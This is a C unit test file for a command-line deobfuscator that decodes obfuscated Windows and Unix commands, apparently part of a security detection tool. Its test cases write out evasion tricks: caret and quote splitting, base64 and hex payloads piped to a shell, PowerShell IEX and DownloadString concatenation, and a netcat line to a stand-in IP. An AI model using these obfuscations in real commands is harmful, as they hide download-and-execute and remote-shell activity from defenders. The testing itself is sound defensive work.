#include "command/command.h"

#include <time.h>

#include "unit.h"

/* What is hidden, and what it is. */
static const struct {
	const char *line, *want;
} cases[] = {
	/* cmd */
	{ "cmd /c c^e^r^tutil -url^cache", "cmd /c certutil -urlcache" },
	{ "cmd.exe /c echo a ^& curl", "cmd.exe /c echo a & curl" },
	{ "c^url -O x", "curl -O x" },
	{ "p^o^w^e^rshell -nop", "powershell -nop" },
	{ "cmd /c \"set a=cu&&set b=rl&&call %a%%b% -O http://a.example/x\"",
	  "cmd /c \"set a=cu&&set b=rl&&call curl -O http://a.example/x\"" },
	{ "cmd /V:ON /c \"set x=certutil&& !x! -f\"",
	  "cmd /V:ON /c \"set x=certutil&& certutil -f\"" },
	{ "%COMSPEC:~-7,3% /c whoami", "cmd /c whoami" },
	{ "cmd /c %ProgramData:~0,1%%ProgramData:~9,2%md", "cmd /c CmDmd" },
	{ "cmd /c set x=cQrl&&call %x:Q=u% -O", "cmd /c set x=cQrl&&call curl -O" },
	/* words */
	{ "c\"e\"rtutil -url\"\"cache", "certutil -urlcache" },
	{ "cm\"\"d /c cu''rl", "cmd /c curl" },
	{ "\xe2\x80\x93urlcache", "-urlcache" },
	{ "certutil \xe2\x80\x93urlcache \xe2\x80\x95split", "certutil -urlcache -split" },
	{ "\xef\xbd\x83url a", "curl a" },
	{ "powershell I`n`V`o`Ke-We`BRequest", "powershell InVoKe-WeBRequest" },
	{ "curl   -O \t x", "curl -O x" },
	/* addresses */
	{ "curl http://0x7f000001/a", "curl http://127.0.0.1/a" },
	{ "curl http://2130706433:80/a", "curl http://127.0.0.1:80/a" },
	{ "curl http://0177.0.0.01/", "curl http://127.0.0.1/" },
	{ "curl http://127.1/a%62c", "curl http://127.0.0.1/abc" },
	{ "curl http://%61.ex%61mple/x%20y", "curl http://a.example/x%20y" },
	{ "curl http:\\\\a.example\\x", "curl http://a.example/x" },
	{ "copy \\\\0x0a000001\\c$\\a b", "copy \\\\10.0.0.1\\c$\\a b" },
	/* encoded */
	{ "powershell -e YwBhAGwAYwAuAGUAeABlAA==", "powershell -e calc.exe" },
	{ "powershell /EnCoDe YwBhAGwAYwAuAGUAeABlAA==", "powershell /EnCoDe calc.exe" },
	{ "pwsh -ec \"aQB3AHIAIABoAHQAdABwADoALwAvADEAMgA3AC4AMQAvAA==\"",
	  "pwsh -ec \"iwr http://127.0.0.1/\"" },
	{ "sh -c 'echo Y3VybCAtTyBodHRwOi8vYS5leGFtcGxlLw== | base64 -d | sh'",
	  "sh -c 'echo curl -O http://a.example/ | base64 -d | sh'" },
	{ "sh -c 'echo bmMgMjAzLjAuMTEzLjc3IDQ0NDQgPiAvdG1wL2I= | base64 -d | sh'",
	  "sh -c 'echo nc 203.0.113.77 4444 > /tmp/b | base64 -d | sh'" },
	{ "echo 6375726c20687474703a2f2f612e6578616d706c652f78 | xxd -r -p | sh",
	  "echo curl http://a.example/x | xxd -r -p | sh" },
	{ "python3 -c 'exec(bytes.fromhex(\"6375726c20687474703a2f2f612e6578616d706c652f78\"))'",
	  "python3 -c 'exec(bytes.fromhex(\"curl http://a.example/x\"))'" },
	{ "echo 6375726c20687474703a2f2f612e6578616d706c652f78 | sha1sum",
	  "echo 6375726c20687474703a2f2f612e6578616d706c652f78 | sha1sum" },
	{ "echo d41d8cd98f00b204e9800998ecf8427e | xxd -r -p > k",
	  "echo d41d8cd98f00b204e9800998ecf8427e | xxd -r -p > k" },
	{ "echo MjAzLjAuMTEzLjc3IDQ0NDQgMjAzLjAuMTEzLjc3 | base64 -d",
	  "echo MjAzLjAuMTEzLjc3IDQ0NDQgMjAzLjAuMTEzLjc3 | base64 -d" },
	{ "iex "
	  "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9hLmV4YW1w"
	  "bGUv')))",
	  "iex 'iwr http://a.example/'" },
	/* scripts */
	{ "iwr ('ht'+'tp://a')", "iwr 'http://a'" },
	{ "x.DownloadString('ht'+\"tp://a\")", "x.DownloadString('http://a')" },
	{ "iex \"iwr ('ht'+'tp')\"", "iex \"iwr 'http'\"" },
	{ "&('ie'+'x') (1)", "iex (1)" },
	{ "(New-Object Net.WebClient).('Downl'+'oadString')('http://a')",
	  "(New-Object Net.WebClient).DownloadString('http://a')" },
	{ "& (\"{1}{0}\"-f'ex','i') x", "& 'iex' x" },
	{ "[char]104+[char]0x74+'tp'", "'http'" },
	{ "-join([char[]](104,116,116,112))", "'http'" },
	{ "([char[]](104,116) -join '')", "'ht'" },
	{ "(105,101,120|%{[char]$_}) -join ''", "'iex'" },
	{ "(74,70,91|foreach-object{[char]($_ -bxor 0x23)})-join''", "'iex'" },
	{ "'pxxh'.Replace('xx','tt')", "'ptth'" },
	{ "('hQQp://a' -replace 'QQ','tt')", "'http://a'" },
	{ "-join 'ptth'[3..0]", "'http'" },
	{ "'ptth'[-1..-4] -join ''", "'http'" },
	{ "$env:ComSpec[4,24,25]-join''", "'iex'" },
	{ "$a='ht';$b='tp';iwr ($a+$b)", "$a='ht';$b='tp';iwr 'http'" },
	{ "$a='ht';$b='tp';iwr \"$a$b\"", "$a='ht';$b='tp';iwr 'http'" },
	{ "eval(String.fromCharCode(97,108,101,114,116))", "eval('alert')" },
	{ "Execute(Chr(104) & Chr(116) & \"tp\")", "Execute('http')" },
	{ "StrReverse(\"ptth\")", "'http'" },
	{ "python -c \"print('ptth'[::-1])\"", "python -c \"print('http')\"" },
	{ "var a=\"ht\";go(a+\"tp\")", "var a=\"ht\";go('http')" },
	/* Unix */
	{ "bash -c $'\\x63url http://a'", "bash -c 'curl http://a'" },
	{ "sh -c 'c\\u\\rl -O x'", "sh -c 'curl -O x'" },
	{ "sh -c 'curl${IFS}-O${IFS}x'", "sh -c 'curl -O x'" },
	{ "sh -c 'c$@url x'", "sh -c 'curl x'" },
	{ "bash -c '{curl,-s,http://a}'", "bash -c 'curl -s http://a'" },
	{ "sh -c \"printf '\\x63\\x75\\x72\\x6c'\"", "sh -c \"printf 'curl'\"" },
};

/* What hides nothing stays, to the byte and the pointer. */
static const char *const normal[] = {
	"",
	"svchost.exe -k netsvcs -p -s Schedule",
	"\"C:\\Program Files\\Acme\\a.exe\" --type=renderer --lang=\"de-DE\" /prefetch:1",
	"C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\A\\b.bat\" \"x y\"\"",
	"\"C:\\Windows\\System32\\cmd.exe\" /c dir \"C:\\a b\" && echo %PATH% > \"%TEMP%\\x.txt\"",
	"cl.exe /I\"C:\\inc\" /D\"NAME=1\" -p\"secret\" -DX=\"y\" a.c",
	"msbuild a.sln /p:Configuration=\"Release\" /p:Platform=\"Any CPU\" bin\\x86\\x64\\r",
	"git log HEAD^ --pretty=\"%h %s\"",
	"git show HEAD^2",
	"findstr /r \"^abc\" a.txt",
	"powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\a b\\c.ps1\" -Name 'x'",
	"powershell -Command \"Get-Process | Where-Object { $_.Name -eq 'a' }\"",
	"java -cp \"a.jar;b.jar\" -Dx.y=z com.a.Main --e 5 -enc utf8",
	"curl -sSL https://a.example/x.tar.gz -o /tmp/x.tar.gz",
	"wget 'https://a.example/x?a=1&b=%20c'",
	"/bin/sh -c \"sed -e 's/\\\\d\\\\w//g' $HOME/a | grep -E '^x' > /dev/null 2>&1\"",
	"/bin/bash -c 'echo `date` \"$@\" ${HOME} $(id -u)'",
	"sh -c \"don't worry, it's fine\"",
	"rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL \"a.cpl\",,1",
	"reg add HKLM\\Software\\A /v B /t REG_SZ /d \"c d\" /f",
	"schtasks /create /tn \"A B\" /tr \"C:\\x\\y.exe /z\" /sc daily /st 09:00",
	"python -c \"import json; print(json.dumps({'a': 1, 'b': [1, 2]}))\"",
	"node -e \"console.log(1+2, 'a', [1,2].join())\"",
	"docker run --rm -v \"$PWD:/w\" -e A=b alpine:3 sh -c 'ls -la'",
	"explorer.exe /select,\"C:\\x y\\z.txt\"",
	"C:\\a.exe {\"a\":\"b\",\"c\":[\"d\"]} -x=\"{\\\"k\\\":\\\"v\\\"}\"",
	"foo --title \"It's\" --name='b' -- /x/y",
	"wmic process where \"name='a.exe'\" get ProcessId",
	"ssh user@10.0.0.1 'uptime; df -h'",
	"notepad.exe C:\\x\\\xc3\xa4\xe2\x80\x93\xc3\xb6.txt",
	"function A {\n    param($b)\n    if ($b -eq 'x') { Write-Host \"a  b $b\" }\n}\n",
	"openssl enc -aes-256-cbc -d -a -in x",
	"app.exe --token=QWxhZGRpbjpvcGVuIHNlc2FtZQ== -e QWxhZGRpbjpvcGVuc2VzYW1l",
};

static void hidden_commands_are_found(void **unused)
{
	struct arena mem = { 0 };
	size_t failed = 0;

	(void)unused;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct str got = command_plain(str_of(cases[i].line), &mem);

		if (str_eq(got, str_of(cases[i].want)))
			continue;
		print_error("%s\n  got  %.*s\n  want %s\n", cases[i].line, STR_ARG(got),
		            cases[i].want);
		failed++;
	}
	assert_int_equal(failed, 0);
	arena_free(&mem);
}

/* What is plain is plain: undoing it again changes nothing. */
static void plain_stays_plain(void **unused)
{
	struct arena mem = { 0 };

	(void)unused;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct str want = str_of(cases[i].want), got = command_plain(want, &mem);

		if (got.p != want.p)
			print_error("%s\n  got %.*s\n", cases[i].want, STR_ARG(got));
		assert_ptr_equal(got.p, want.p);
	}
	arena_free(&mem);
}

static void normal_commands_stay(void **unused)
{
	struct arena mem = { 0 };
	size_t failed = 0;

	(void)unused;
	for (size_t i = 0; i < COUNT(normal); i++) {
		struct str line = str_of(normal[i]), got = command_plain(line, &mem);

		if (got.p == line.p && got.n == line.n)
			continue;
		print_error("%s\n  got %.*s\n", normal[i], STR_ARG(got));
		failed++;
	}
	assert_int_equal(failed, 0);
	arena_free(&mem);
}

/* Texts that repeat what may cost most: the time is linear, so each takes a second or two, and not
 * minutes. */
static void hostile_texts_end(void **unused)
{
	static const struct {
		const char *first, *piece;
	} texts[] = {
		{ "", "(" },         { "", "'a'+" },      { "", "[char]" },
		{ "", "-join " },    { "", "$a=$a+$a;" }, { "", "\"" },
		{ "", "'" },         { "", "%a:~" },      { "", "set a=%a%%a%&" },
		{ "", "^" },         { "", "`a" },        { "", "\\x41" },
		{ "", "{0}-f" },     { "", "(1," },       { "", "|%{" },
		{ "", "{a," },       { "", "http:\\\\" }, { "", "-e AAAA" },
		{ "", "$(" },        { "", "''+\"\"+" },  { "sh ${x", " " },
		{ "sh $ ", ";{a," }, { "", "$a=$a+" },
	};

	(void)unused;
	for (size_t i = 0; i < COUNT(texts); i++) {
		struct arena mem = { 0 };
		struct transfer t;
		struct buf b = { 0 };
		clock_t began = clock();
		struct str got;

		buf_add(&b, str_of(texts[i].first));
		while (b.n < 200000)
			buf_add(&b, str_of(texts[i].piece));
		got = command_plain(buf_str(&b), &mem);
		assert_true(got.n <= (size_t)2 << 20);
		command_transfer(got, &t, &mem);
		assert_in_range(clock() - began, 0, 10 * CLOCKS_PER_SEC);
		buf_free(&b);
		arena_free(&mem);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hidden_commands_are_found),
		cmocka_unit_test(plain_stays_plain),
		cmocka_unit_test(normal_commands_stay),
		cmocka_unit_test(hostile_texts_end),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
